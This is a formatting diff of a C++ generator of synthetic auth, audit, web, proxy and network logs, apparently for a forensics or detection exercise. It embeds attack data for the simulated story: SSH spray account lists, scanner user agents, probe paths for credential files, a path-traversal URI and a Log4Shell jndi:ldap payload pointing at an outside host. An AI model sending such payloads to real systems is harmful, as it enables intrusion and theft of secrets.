@@ -28,7 +28,8 @@ Timestamp plus(Timestamp t, int64_t ticks) { return Timestamp{t.ticks + ticks}; 
 
 Timestamp random_in(Rng& rng, Timestamp from, Timestamp to) {
   const int64_t span = std::max<int64_t>(1, (to.ticks - from.ticks) / 10000);
-  return Timestamp{from.ticks + static_cast<int64_t>(rng.next() % static_cast<uint64_t>(span)) * 10000};
+  return Timestamp{from.ticks +
+                   static_cast<int64_t>(rng.next() % static_cast<uint64_t>(span)) * 10000};
 }
 
 // Daytime-weighted instant of a day: most between 07:00 and 22:00.
@@ -157,10 +158,10 @@ std::vector<Visit> visits(const World& w, int day) {
 
 constexpr std::array<const char*, 4> kBruteAccounts = {"root", "admin", "ubuntu", "root"};
 constexpr std::array<const char*, 30> kSprayNames = {
-    "test",    "oracle",  "postgres", "git",     "deploy", "ftpuser", "guest",  "user",
-    "support", "backup",  "mysql",    "jenkins", "hadoop", "ubnt",    "pi",     "minecraft",
-    "tomcat",  "ansible", "vagrant",  "docker",  "sftp",   "www",     "nagios", "zabbix",
-    "elastic", "steam",   "teamspeak","odoo",    "solr",   "dev"};
+    "test",    "oracle",  "postgres",  "git",     "deploy", "ftpuser", "guest",  "user",
+    "support", "backup",  "mysql",     "jenkins", "hadoop", "ubnt",    "pi",     "minecraft",
+    "tomcat",  "ansible", "vagrant",   "docker",  "sftp",   "www",     "nagios", "zabbix",
+    "elastic", "steam",   "teamspeak", "odoo",    "solr",   "dev"};
 
 struct SshSession {
   uint32_t pid;
@@ -184,9 +185,8 @@ void ssh_attack(const Attack& a, const Host& host, std::vector<Line>& lines, Fil
     names.resize(std::min<size_t>(a.count, names.size()));
     accounts = names;
   }
-  const uint32_t attempts = a.kind == AttackKind::kSshBruteForce
-                                ? a.count
-                                : static_cast<uint32_t>(accounts.size());
+  const uint32_t attempts =
+      a.kind == AttackKind::kSshBruteForce ? a.count : static_cast<uint32_t>(accounts.size());
   for (uint32_t i = 0; i < attempts; ++i) {
     const std::string& user = a.kind == AttackKind::kSshBruteForce
                                   ? accounts[rng.below(static_cast<uint32_t>(accounts.size()))]
@@ -203,8 +203,10 @@ void ssh_attack(const Attack& a, const Host& host, std::vector<Line>& lines, Fil
       }
       if (exists && in_session == 0) {
         syslog_prefix(line, plus(t, kSecond / 10), host.name, "sshd", s.pid);
-        line += "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=" +
-                a.source + "  user=" + user;
+        line +=
+            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
+            "rhost=" +
+            a.source + "  user=" + user;
         lines.push_back({plus(t, kSecond / 10), std::move(line)});
         line.clear();
       }
@@ -233,7 +235,8 @@ void ssh_attack(const Attack& a, const Host& host, std::vector<Line>& lines, Fil
 
 void cron_lines(Rng& rng, const Host& host, int day, uint32_t scale, std::vector<Line>& lines) {
   for (uint32_t h = 0; h < 24 * scale; ++h) {
-    const Timestamp t = plus(day_start(day), static_cast<int64_t>(h) * kDay / (24 * scale) + 17 * kMinute);
+    const Timestamp t =
+        plus(day_start(day), static_cast<int64_t>(h) * kDay / (24 * scale) + 17 * kMinute);
     const uint32_t pid = rng.between(3000, 90000);
     std::string line;
     syslog_prefix(line, t, host.name, "CRON", pid);
@@ -253,7 +256,7 @@ void cron_lines(Rng& rng, const Host& host, int day, uint32_t scale, std::vector
 
 struct AdminLogin {
   Timestamp time;
-  std::string user;   // Linux account
+  std::string user;  // Linux account
   std::string ip;
   uint32_t pid;
   uint32_t uid;
@@ -267,8 +270,9 @@ std::vector<AdminLogin> admin_logins(const World& w, const Host& host, int day) 
   Rng rng(derive_seed(w.seed, "admin-ssh/" + host.name + "/" + std::to_string(day)));
   if (is_weekend(day)) return out;
   static constexpr std::array<const char*, 5> kCommands = {
-      "/usr/bin/systemctl restart cms", "/usr/bin/apt-get upgrade -y", "/usr/bin/journalctl -u cms --since today",
-      "/usr/bin/systemctl status nginx", "/usr/sbin/logrotate -f /etc/logrotate.d/cms"};
+      "/usr/bin/systemctl restart cms", "/usr/bin/apt-get upgrade -y",
+      "/usr/bin/journalctl -u cms --since today", "/usr/bin/systemctl status nginx",
+      "/usr/sbin/logrotate -f /etc/logrotate.d/cms"};
   for (int admin : {w.admin, 1}) {
     if (!rng.percent(45)) continue;
     const Person& p = w.people[static_cast<size_t>(admin)];
@@ -293,23 +297,26 @@ void auth_log_day(const World& w, const Host& host, int day, Rng& rng, std::vect
     if (rng.percent(8)) {  // a mistyped password first, once
       const Timestamp f = plus(l.time, -20 * kSecond);
       syslog_prefix(line, f, host.name, "sshd", l.pid - 1);
-      line += "Failed password for " + l.user + " from " + l.ip + " port " + std::to_string(50000 + l.pid % 9000) + " ssh2";
+      line += "Failed password for " + l.user + " from " + l.ip + " port " +
+              std::to_string(50000 + l.pid % 9000) + " ssh2";
       lines.push_back({f, std::move(line)});
       result.failures[{day, l.ip}][l.user] += 1;
       line.clear();
     }
     syslog_prefix(line, l.time, host.name, "sshd", l.pid);
-    line += "Accepted password for " + l.user + " from " + l.ip + " port " + std::to_string(50000 + l.pid % 9000) + " ssh2";
+    line += "Accepted password for " + l.user + " from " + l.ip + " port " +
+            std::to_string(50000 + l.pid % 9000) + " ssh2";
     lines.push_back({l.time, std::move(line)});
     line.clear();
     syslog_prefix(line, l.time, host.name, "sshd", l.pid);
-    line += "pam_unix(sshd:session): session opened for user " + l.user + "(uid=" + std::to_string(l.uid) +
-            ") by (uid=0)";
+    line += "pam_unix(sshd:session): session opened for user " + l.user +
+            "(uid=" + std::to_string(l.uid) + ") by (uid=0)";
     lines.push_back({l.time, std::move(line)});
     line.clear();
     const Timestamp s = plus(l.time, 90 * kSecond);
     syslog_prefix(line, s, host.name, "sudo", l.pid + 7);
-    line += "  " + l.user + " : TTY=pts/0 ; PWD=/home/" + l.user + " ; USER=root ; COMMAND=" + l.command;
+    line += "  " + l.user + " : TTY=pts/0 ; PWD=/home/" + l.user +
+            " ; USER=root ; COMMAND=" + l.command;
     lines.push_back({s, std::move(line)});
     line.clear();
     const Timestamp e = plus(l.time, l.minutes * kMinute);
@@ -329,16 +336,17 @@ void auth_log_day(const World& w, const Host& host, int day, Rng& rng, std::vect
       const uint32_t pid = rng.between(3000, 90000);
       std::string line;
       syslog_prefix(line, t, host.name, "sshd", pid);
-      line += "Accepted publickey for " + user + " from " + ip + " port " + std::to_string(rng.between(32768, 60999)) +
-              " ssh2: ED25519 SHA256:";
-      static constexpr char kB64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+      line += "Accepted publickey for " + user + " from " + ip + " port " +
+              std::to_string(rng.between(32768, 60999)) + " ssh2: ED25519 SHA256:";
+      static constexpr char kB64[] =
+          "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
       Rng key(derive_seed(w.seed, user));
       for (int c = 0; c < 43; ++c) line += kB64[key.below(64)];
       lines.push_back({t, std::move(line)});
       line.clear();
       syslog_prefix(line, t, host.name, "sshd", pid);
-      line += "pam_unix(sshd:session): session opened for user " + user + "(uid=" + std::to_string(2001 + k) +
-              ") by (uid=0)";
+      line += "pam_unix(sshd:session): session opened for user " + user +
+              "(uid=" + std::to_string(2001 + k) + ") by (uid=0)";
       lines.push_back({t, std::move(line)});
       line.clear();
       syslog_prefix(line, plus(t, kSecond), host.name, "sshd", pid + 2);
@@ -351,7 +359,8 @@ void auth_log_day(const World& w, const Host& host, int day, Rng& rng, std::vect
       lines.push_back({e, std::move(line)});
     }
     for (const Attack& a : w.attacks) {
-      if (a.day == day && (a.kind == AttackKind::kSshBruteForce || a.kind == AttackKind::kSshSpray)) {
+      if (a.day == day &&
+          (a.kind == AttackKind::kSshBruteForce || a.kind == AttackKind::kSshSpray)) {
         ssh_attack(a, host, lines, result);
       }
     }
@@ -379,31 +388,40 @@ std::string hex_of(std::string_view text) {
 
 void audit_log_day(const World& w, const Host& host, int day, Rng& rng, AuditSerial& serial,
                    std::vector<Line>& lines) {
-  auto user_msg = [&](const char* type, Timestamp t, uint32_t pid, uint32_t auid, const std::string& msg) {
+  auto user_msg = [&](const char* type, Timestamp t, uint32_t pid, uint32_t auid,
+                      const std::string& msg) {
     lines.push_back({t, audit_head(host, type, t, serial.next++) + "pid=" + std::to_string(pid) +
-                            " uid=0 auid=" + std::to_string(auid) + " ses=" + std::to_string(auid == 4294967295u ? 4294967295u : 10 + day) +
+                            " uid=0 auid=" + std::to_string(auid) +
+                            " ses=" + std::to_string(auid == 4294967295u ? 4294967295u : 10 + day) +
                             " subj=unconfined msg='" + msg + "'"});
   };
   // cron's sessions: inert, grow with the scale
   for (uint32_t h = 0; h < 24 * w.scale; ++h) {
-    const Timestamp t = plus(day_start(day), static_cast<int64_t>(h) * kDay / (24 * w.scale) + 17 * kMinute);
+    const Timestamp t =
+        plus(day_start(day), static_cast<int64_t>(h) * kDay / (24 * w.scale) + 17 * kMinute);
     const uint32_t pid = rng.between(3000, 90000);
     user_msg("USER_ACCT", t, pid, 4294967295u,
-             "op=PAM:accounting grantors=pam_permit acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success");
+             "op=PAM:accounting grantors=pam_permit acct=\"root\" exe=\"/usr/sbin/cron\" "
+             "hostname=? addr=? terminal=cron res=success");
     user_msg("CRED_ACQ", t, pid, 4294967295u,
-             "op=PAM:setcred grantors=pam_permit acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success");
+             "op=PAM:setcred grantors=pam_permit acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? "
+             "addr=? terminal=cron res=success");
     user_msg("USER_START", t, pid, 0,
-             "op=PAM:session_open grantors=pam_loginuid,pam_env,pam_permit,pam_unix acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success");
+             "op=PAM:session_open grantors=pam_loginuid,pam_env,pam_permit,pam_unix acct=\"root\" "
+             "exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success");
     user_msg("USER_END", plus(t, kSecond / 5), pid, 0,
-             "op=PAM:session_close grantors=pam_loginuid,pam_env,pam_permit,pam_unix acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success");
+             "op=PAM:session_close grantors=pam_loginuid,pam_env,pam_permit,pam_unix acct=\"root\" "
+             "exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success");
   }
   for (const AdminLogin& l : admin_logins(w, host, day)) {
-    const std::string who = "acct=\"" + l.user + "\" exe=\"/usr/sbin/sshd\" hostname=" + l.ip + " addr=" + l.ip +
-                            " terminal=ssh res=success";
-    user_msg("USER_AUTH", l.time, l.pid, 4294967295u, "op=PAM:authentication grantors=pam_unix " + who);
+    const std::string who = "acct=\"" + l.user + "\" exe=\"/usr/sbin/sshd\" hostname=" + l.ip +
+                            " addr=" + l.ip + " terminal=ssh res=success";
+    user_msg("USER_AUTH", l.time, l.pid, 4294967295u,
+             "op=PAM:authentication grantors=pam_unix " + who);
     user_msg("USER_ACCT", l.time, l.pid, 4294967295u, "op=PAM:accounting grantors=pam_unix " + who);
-    user_msg("USER_LOGIN", l.time, l.pid, l.uid, "op=login id=" + std::to_string(l.uid) + " exe=\"/usr/sbin/sshd\" hostname=" + l.ip +
-                                                     " addr=" + l.ip + " terminal=/dev/pts/0 res=success");
+    user_msg("USER_LOGIN", l.time, l.pid, l.uid,
+             "op=login id=" + std::to_string(l.uid) + " exe=\"/usr/sbin/sshd\" hostname=" + l.ip +
+                 " addr=" + l.ip + " terminal=/dev/pts/0 res=success");
     user_msg("USER_START", l.time, l.pid, l.uid, "op=PAM:session_open grantors=pam_unix " + who);
     // The sudo command as one kernel event: SYSCALL, EXECVE, CWD, PATH, PROCTITLE, EOE.
     const Timestamp s = plus(l.time, 90 * kSecond);
@@ -421,21 +439,28 @@ void audit_log_day(const World& w, const Host& host, int day, Rng& rng, AuditSer
       }
     }
     lines.push_back({s, audit_head(host, "SYSCALL", s, id) +
-                            "arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1e0 a1=55d0c200 a2=55d0c220 a3=0 items=2 ppid=" +
-                            std::to_string(l.pid + 3) + " pid=" + std::to_string(pid) + " auid=" + std::to_string(l.uid) +
-                            " uid=" + std::to_string(l.uid) + " gid=" + std::to_string(l.uid) + " euid=0 suid=0 fsuid=0 egid=" +
-                            std::to_string(l.uid) + " sgid=" + std::to_string(l.uid) + " fsgid=" + std::to_string(l.uid) +
+                            "arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1e0 a1=55d0c200 "
+                            "a2=55d0c220 a3=0 items=2 ppid=" +
+                            std::to_string(l.pid + 3) + " pid=" + std::to_string(pid) +
+                            " auid=" + std::to_string(l.uid) + " uid=" + std::to_string(l.uid) +
+                            " gid=" + std::to_string(l.uid) +
+                            " euid=0 suid=0 fsuid=0 egid=" + std::to_string(l.uid) +
+                            " sgid=" + std::to_string(l.uid) + " fsgid=" + std::to_string(l.uid) +
                             " tty=pts0 ses=" + std::to_string(10 + day) +
                             " comm=\"sudo\" exe=\"/usr/bin/sudo\" subj=unconfined key=\"exec\""});
     std::string execve = audit_head(host, "EXECVE", s, id) + "argc=" + std::to_string(args.size());
-    for (size_t i = 0; i < args.size(); ++i) execve += " a" + std::to_string(i) + "=\"" + args[i] + "\"";
+    for (size_t i = 0; i < args.size(); ++i)
+      execve += " a" + std::to_string(i) + "=\"" + args[i] + "\"";
     lines.push_back({s, std::move(execve)});
     lines.push_back({s, audit_head(host, "CWD", s, id) + "cwd=\"/home/" + l.user + "\""});
-    lines.push_back({s, audit_head(host, "PATH", s, id) +
-                            "item=0 name=\"/usr/bin/sudo\" inode=1311 dev=fd:01 mode=0104755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0"});
+    lines.push_back(
+        {s, audit_head(host, "PATH", s, id) +
+                "item=0 name=\"/usr/bin/sudo\" inode=1311 dev=fd:01 mode=0104755 ouid=0 ogid=0 "
+                "rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0"});
     lines.push_back({s, audit_head(host, "PROCTITLE", s, id) + "proctitle=" + hex_of(head_args)});
     lines.push_back({s, audit_head(host, "EOE", s, id)});
-    user_msg("USER_END", plus(l.time, l.minutes * kMinute), l.pid, l.uid, "op=PAM:session_close grantors=pam_unix " + who);
+    user_msg("USER_END", plus(l.time, l.minutes * kMinute), l.pid, l.uid,
+             "op=PAM:session_close grantors=pam_unix " + who);
   }
 }
 
@@ -453,25 +478,49 @@ struct WebRequest {
 };
 
 constexpr std::array<const char*, 6> kBrowserAgents = {
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
-    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/130.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6_1) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+    "Version/18.0 Safari/605.1.15",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
-    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1",
-    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.6668.100 Mobile Safari/537.36",
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0"};
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
+    "Gecko) Version/18.0 Mobile/15E148 Safari/604.1",
+    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/129.0.6668.100 Mobile Safari/537.36",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0"};
 
 constexpr std::array<const char*, 5> kScannerAgents = {
     "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)",
     "sqlmap/1.8.4#stable (https://sqlmap.org)",
     "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
-    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
-    "gobuster/3.6"};
+    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "gobuster/3.6"};
 
 constexpr std::array<const char*, 24> kProbePaths = {
-    "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/", "/phpmyadmin/",
-    "/admin/", "/administrator/", "/server-status", "/phpinfo.php", "/backup.zip", "/backup.tar.gz",
-    "/config.php.bak", "/.aws/credentials", "/actuator/health", "/api/v1/users", "/console/",
-    "/cgi-bin/test.cgi", "/xmlrpc.php", "/.DS_Store", "/db.sql", "/old/", "/test/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"};
+    "/.env",
+    "/.git/config",
+    "/.git/HEAD",
+    "/wp-login.php",
+    "/wp-admin/",
+    "/phpmyadmin/",
+    "/admin/",
+    "/administrator/",
+    "/server-status",
+    "/phpinfo.php",
+    "/backup.zip",
+    "/backup.tar.gz",
+    "/config.php.bak",
+    "/.aws/credentials",
+    "/actuator/health",
+    "/api/v1/users",
+    "/console/",
+    "/cgi-bin/test.cgi",
+    "/xmlrpc.php",
+    "/.DS_Store",
+    "/db.sql",
+    "/old/",
+    "/test/",
+    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"};
 
 constexpr std::array<const char*, 8> kExploitUris = {
     "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
@@ -484,9 +533,18 @@ constexpr std::array<const char*, 8> kExploitUris = {
     "/en/?x=${jndi:ldap://203.0.113.9:1389/Exploit}"};
 
 std::vector<std::string> site_pages(const World& w) {
-  std::vector<std::string> pages = {"/", "/en/", "/fr/", "/en/cases/", "/fr/affaires/", "/en/news/",
-                                    "/en/contact", "/en/careers", "/en/about", "/fr/a-propos",
-                                    "/en/victims-and-witnesses", "/en/hearings/calendar"};
+  std::vector<std::string> pages = {"/",
+                                    "/en/",
+                                    "/fr/",
+                                    "/en/cases/",
+                                    "/fr/affaires/",
+                                    "/en/news/",
+                                    "/en/contact",
+                                    "/en/careers",
+                                    "/en/about",
+                                    "/fr/a-propos",
+                                    "/en/victims-and-witnesses",
+                                    "/en/hearings/calendar"};
   for (const Case& c : w.cases) {
     pages.push_back("/en/cases/" + c.id);
     pages.push_back("/fr/affaires/" + c.id);
@@ -501,7 +559,8 @@ std::vector<std::string> site_pages(const World& w) {
 
 void web_day(const World& w, int day, Rng& rng, std::vector<WebRequest>& out) {
   const std::vector<std::string> pages = site_pages(w);
-  static constexpr std::array<const char*, 4> kStatic = {"/static/css/site.css?v=12", "/static/js/site.js?v=12",
+  static constexpr std::array<const char*, 4> kStatic = {"/static/css/site.css?v=12",
+                                                         "/static/js/site.js?v=12",
                                                          "/static/img/logo.svg", "/favicon.ico"};
   for (const Visit& visit : visits(w, day)) {
     Rng vr(visit.seed);
@@ -722,15 +781,17 @@ constexpr std::array<Site, 3> kPlainSites = {{
     {"crl.globalsign.com", "2001:db8:ff0b::10"},
 }};
 
-std::string squid_line(Timestamp t, uint32_t elapsed_ms, const std::string& client, const char* action,
-                       int status, uint64_t bytes, const char* method, const std::string& url,
-                       const std::string& user, const std::string& peer, const char* type) {
+std::string squid_line(Timestamp t, uint32_t elapsed_ms, const std::string& client,
+                       const char* action, int status, uint64_t bytes, const char* method,
+                       const std::string& url, const std::string& user, const std::string& peer,
+                       const char* type) {
   std::string out = unix_time(t, 3);
   std::string ms = std::to_string(elapsed_ms);
   out += ' ';
   for (size_t i = ms.size(); i < 6; ++i) out += ' ';
-  out += ms + " " + client + " " + action + "/" + std::to_string(status) + " " + std::to_string(bytes) + " " +
-         method + " " + url + " " + (user.empty() ? "-" : user) + " HIER_DIRECT/" + peer + " " + type;
+  out += ms + " " + client + " " + action + "/" + std::to_string(status) + " " +
+         std::to_string(bytes) + " " + method + " " + url + " " + (user.empty() ? "-" : user) +
+         " HIER_DIRECT/" + peer + " " + type;
   return out;
 }
 
@@ -740,24 +801,27 @@ void proxy_day(const World& w, int day, Rng& rng, std::vector<Line>& lines) {
     if (is_weekend(day)) continue;
     Rng wd(derive_seed(w.seed, "workday/" + std::to_string(p) + "/" + std::to_string(day)));
     if (wd.percent(4)) continue;
-    const Timestamp arrive = plus(day_start(day), 7 * kHour + 45 * kMinute + wd.below(90 * 60) * kSecond);
-    const Timestamp leave = plus(day_start(day), 16 * kHour + 30 * kMinute + wd.below(150 * 60) * kSecond);
+    const Timestamp arrive =
+        plus(day_start(day), 7 * kHour + 45 * kMinute + wd.below(90 * 60) * kSecond);
+    const Timestamp leave =
+        plus(day_start(day), 16 * kHour + 30 * kMinute + wd.below(150 * 60) * kSecond);
     const std::string& ip = w.workstations[static_cast<size_t>(person.workstation)].ip;
     for (uint32_t i = 0; i < 30 * w.scale; ++i) {
       const Timestamp t = random_in(rng, arrive, leave);
       if (rng.percent(85)) {
         const Site& s = kSites[rng.below(static_cast<uint32_t>(kSites.size()))];
-        lines.push_back({t, squid_line(t, rng.between(80, 90000), ip, "TCP_TUNNEL", 200, rng.between(2000, 900000),
-                                       "CONNECT", std::string(s.host) + ":443", person.account, s.ip, "-")});
+        lines.push_back({t, squid_line(t, rng.between(80, 90000), ip, "TCP_TUNNEL", 200,
+                                       rng.between(2000, 900000), "CONNECT",
+                                       std::string(s.host) + ":443", person.account, s.ip, "-")});
       } else {
         const Site& s = kPlainSites[rng.below(3)];
         std::string url = std::string("http://") + s.host + "/";
         add_hex(url, rng.next(), 12, false);
         url += rng.percent(50) ? ".crl" : ".cab";
         const bool hit = rng.percent(40);
-        lines.push_back({t, squid_line(t, rng.between(5, 900), ip, hit ? "TCP_MEM_HIT" : "TCP_MISS", 200,
-                                       rng.between(500, 80000), "GET", url, person.account, s.ip,
-                                       "application/octet-stream")});
+        lines.push_back({t, squid_line(t, rng.between(5, 900), ip, hit ? "TCP_MEM_HIT" : "TCP_MISS",
+                                       200, rng.between(500, 80000), "GET", url, person.account,
+                                       s.ip, "application/octet-stream")});
       }
     }
   }
@@ -775,13 +839,16 @@ void proxy_story(const World& w, int day, std::vector<Line>& lines) {
   }
   for (Timestamp b : in.beacons) {
     if (day_of(b) != day) continue;
-    lines.push_back({b, squid_line(b, rng.between(300, 2500), ip, "TCP_TUNNEL", 200, rng.between(900, 6000),
-                                   "CONNECT", in.c2_host + ":443", victim.account, in.c2_ip, "-")});
+    lines.push_back(
+        {b, squid_line(b, rng.between(300, 2500), ip, "TCP_TUNNEL", 200, rng.between(900, 6000),
+                       "CONNECT", in.c2_host + ":443", victim.account, in.c2_ip, "-")});
   }
   if (day_of(in.exfiltration) == day) {
-    const Timestamp t = plus(in.exfiltration, 7 * kMinute + 12 * kSecond);  // logged when the tunnel closes
-    lines.push_back({t, squid_line(t, 432117, ip, "TCP_TUNNEL", 200, in.archive_bytes + 6143, "CONNECT",
-                                   in.exfil_host + ":443", victim.account, in.exfil_ip, "-")});
+    const Timestamp t =
+        plus(in.exfiltration, 7 * kMinute + 12 * kSecond);  // logged when the tunnel closes
+    lines.push_back(
+        {t, squid_line(t, 432117, ip, "TCP_TUNNEL", 200, in.archive_bytes + 6143, "CONNECT",
+                       in.exfil_host + ":443", victim.account, in.exfil_ip, "-")});
   }
 }
 
@@ -808,21 +875,25 @@ std::string uid_text(Rng& rng) {
 }
 
 std::string conn_line(Rng& rng, const Conn& c) {
-  std::string out = unix_time(c.time, 6) + "\t" + uid_text(rng) + "\t" + c.orig + "\t" + std::to_string(c.orig_port) +
-                    "\t" + c.resp + "\t" + std::to_string(c.resp_port) + "\t" + c.proto + "\t" + c.service + "\t";
+  std::string out = unix_time(c.time, 6) + "\t" + uid_text(rng) + "\t" + c.orig + "\t" +
+                    std::to_string(c.orig_port) + "\t" + c.resp + "\t" +
+                    std::to_string(c.resp_port) + "\t" + c.proto + "\t" + c.service + "\t";
   const bool failed = std::string_view(c.state) != "SF" && std::string_view(c.state) != "S1";
   if (failed) {
     out += "-\t-\t-\t";
   } else {
     char buf[32];
     std::snprintf(buf, sizeof buf, "%.6f", c.duration);
-    out += std::string(buf) + "\t" + std::to_string(c.orig_bytes) + "\t" + std::to_string(c.resp_bytes) + "\t";
+    out += std::string(buf) + "\t" + std::to_string(c.orig_bytes) + "\t" +
+           std::to_string(c.resp_bytes) + "\t";
   }
   const uint64_t opkts = failed ? 1 : 4 + c.orig_bytes / 1400;
-  const uint64_t rpkts = failed ? (std::string_view(c.state) == "REJ" ? 1 : 0) : 3 + c.resp_bytes / 1400;
-  out += std::string(c.state) + "\t" + (c.local_orig ? "T" : "F") + "\t" + (c.local_orig ? "F" : "T") + "\t0\t" +
-         c.history + "\t" + std::to_string(opkts) + "\t" + std::to_string(opkts * 52 + c.orig_bytes) + "\t" +
-         std::to_string(rpkts) + "\t" + std::to_string(rpkts * 52 + c.resp_bytes) + "\t-";
+  const uint64_t rpkts =
+      failed ? (std::string_view(c.state) == "REJ" ? 1 : 0) : 3 + c.resp_bytes / 1400;
+  out += std::string(c.state) + "\t" + (c.local_orig ? "T" : "F") + "\t" +
+         (c.local_orig ? "F" : "T") + "\t0\t" + c.history + "\t" + std::to_string(opkts) + "\t" +
+         std::to_string(opkts * 52 + c.orig_bytes) + "\t" + std::to_string(rpkts) + "\t" +
+         std::to_string(rpkts * 52 + c.resp_bytes) + "\t-";
   return out;
 }
 
@@ -955,7 +1026,7 @@ void conn_attacks(const World& w, int day, std::vector<Conn>& out) {
         // Either many ports of one address or one port across the public range.
         const bool ports = rng.percent(70);
         const std::array<const std::string*, 4> targets = {&w.web_public_ip, &w.sftp_public_ip,
-                                                          &w.rds_public_ip, &w.proxy_public_ip};
+                                                           &w.rds_public_ip, &w.proxy_public_ip};
         const std::string& target = *targets[rng.below(4)];
         const uint32_t port = rng.percent(50) ? 445 : 23;
         for (uint32_t i = 0; i < a.count; ++i) {
@@ -999,45 +1070,64 @@ void conn_story(const World& w, int day, std::vector<Conn>& out) {
     out.push_back(c);
   };
   add(plus(in.phish, 42 * kSecond), in.c2_ip, 2.1, 1800, 412871);
-  for (Timestamp b : in.beacons) add(plus(b, kSecond / 2), in.c2_ip, 0.9, rng.between(700, 3000), rng.between(900, 6000));
+  for (Timestamp b : in.beacons)
+    add(plus(b, kSecond / 2), in.c2_ip, 0.9, rng.between(700, 3000), rng.between(900, 6000));
   add(plus(in.exfiltration, 2 * kSecond), in.exfil_ip, 432.1, in.archive_bytes + 51200, 6143);
 }
 
 constexpr const char* kConnHeader =
-    "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n#open\t2026-10-01-00-00-00\n"
-    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\t"
-    "conn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\t"
+    "#separator "
+    "\\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n#open\t2026-10-"
+    "01-00-00-00\n"
+    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_"
+    "bytes\tresp_bytes\t"
+    "conn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_"
+    "pkts\tresp_ip_bytes\t"
     "tunnel_parents\n"
-    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tbool\tbool\tcount\t"
+    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tbo"
+    "ol\tbool\tcount\t"
     "string\tcount\tcount\tcount\tcount\tset[string]\n";
 
 constexpr const char* kDnsHeader =
-    "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tdns\n#open\t2026-10-01-00-00-00\n"
-    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_id\trtt\tquery\tqclass\tqclass_name\t"
+    "#separator "
+    "\\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tdns\n#open\t2026-10-"
+    "01-00-00-00\n"
+    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_"
+    "id\trtt\tquery\tqclass\tqclass_name\t"
     "qtype\tqtype_name\trcode\trcode_name\tAA\tTC\tRD\tRA\tZ\tanswers\tTTLs\trejected\n"
-    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tcount\tinterval\tstring\tcount\tstring\tcount\tstring\tcount\t"
+    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tcount\tinterval\tstring\tcount\tstring\tco"
+    "unt\tstring\tcount\t"
